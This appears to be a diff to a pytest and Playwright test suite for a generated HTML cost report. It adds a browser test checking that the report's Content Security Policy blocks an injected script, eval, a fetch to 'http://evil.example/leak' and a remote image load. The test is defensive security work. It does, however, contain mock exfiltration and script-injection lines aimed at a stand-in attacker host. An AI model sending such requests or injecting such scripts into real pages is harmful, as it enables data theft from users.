@@ -12,7 +12,12 @@ experiment and the variant. One ``finops report`` run (module fixture); then, pe
   ``href`` or ``action``, no ``<iframe>``, ``<base>``, ``<img>``, ``<object>``, ``<embed>``, ``<form>``, and no
   ``<style>`` or ``<script>`` in the page body other than the report's own;
 * every payload whose marker the page shows is shown whole, as text (``innerText`` of the page, the text of the
-  charts' SVG); models are lower-cased by the loaders (canonical model ids), so the comparison ignores case.
+  charts' SVG; a chart label Vega cut to its width counts when it is the payload's start); models are lower-cased by
+  the loaders (canonical model ids), so the comparison ignores case; a null byte shows as U+FFFD;
+* every payload reaches some page, and every page but the index draws its charts under the policy.
+
+And the policy is live, not only written: from inside the index and a page, ``eval``, ``fetch`` and a remote image
+are refused by it before any request is made.
 """
 
 from __future__ import annotations
@@ -215,3 +220,54 @@ def test_the_corpus_reaches_every_page_and_charts_draw(visits: dict[str, dict],
     for stem, seen in visits.items():
         if stem != "index":
             assert seen["charts"] > 0, f"{stem}: no chart drew under the policy"
+
+
+#: From inside a page: what a script the page did not ship, eval in it, fetch and a remote image do (the policy must
+#: stop the eval, or on the index the script itself, and the two requests before they are made).
+PROBE = """async () => {
+    const out = {};
+    const script = document.createElement('script');
+    // run later, as page code: DevTools lets eval through while its own evaluation lasts
+    script.textContent = "setTimeout(() => { try { eval('1'); window.__eval = 'ran'; } " +
+                         "catch (e) { window.__eval = e.name; } }, 0);";
+    document.body.appendChild(script);
+    await new Promise(done => setTimeout(done, 200));
+    out.eval = window.__eval || 'script refused';
+    try { await fetch('http://evil.example/leak'); out.fetch = 'ran'; } catch (e) { out.fetch = e.name; }
+    const img = new Image();
+    await new Promise(done => { img.onerror = done; img.onload = done; img.src = 'http://evil.example/x.png'; });
+    out.img = img.naturalWidth > 0 ? 'loaded' : 'refused';
+    return out;
+}"""
+
+
+@pytest.mark.parametrize("stem", ["index", "00_data_overview"])
+def test_the_policy_is_enforced_not_only_present(hostile_report: tuple[Path, float], browser: object,
+                                                 stem: str) -> None:  # fmt: skip
+    context = browser.new_context()
+    attempted: list[str] = []
+
+    def only_files(route: object) -> None:  # a request the policy let through would be seen (and aborted) here
+        if route.request.url.startswith("file:"):
+            route.continue_()
+        else:
+            attempted.append(route.request.url)
+            route.abort()
+
+    context.route("**/*", only_files)
+    page = context.new_page()
+    console: list[str] = []
+    page.on("console", lambda message: console.append(message.text))
+    try:
+        page.goto((hostile_report[0] / f"{stem}.html").as_uri(), wait_until="load")
+        probe = page.evaluate(PROBE)
+    finally:
+        context.close()
+    # pages allow their inline scripts but no eval; the index allows no script at all
+    scripted = "script refused" if stem == "index" else "EvalError"
+    assert probe == {"eval": scripted, "fetch": "TypeError", "img": "refused"}, (stem, probe)
+    assert attempted == [], (stem, attempted)
+    refused = " ".join(m for m in console if "Content Security Policy" in m)
+    expected = ["Connecting to 'http://evil.example/leak'", "Loading the image 'http://evil.example/x.png'"]
+    expected += ["Executing inline script violates"] if stem == "index" else []
+    assert all(what in refused for what in expected), (stem, console)  # each refused by the policy, and said so
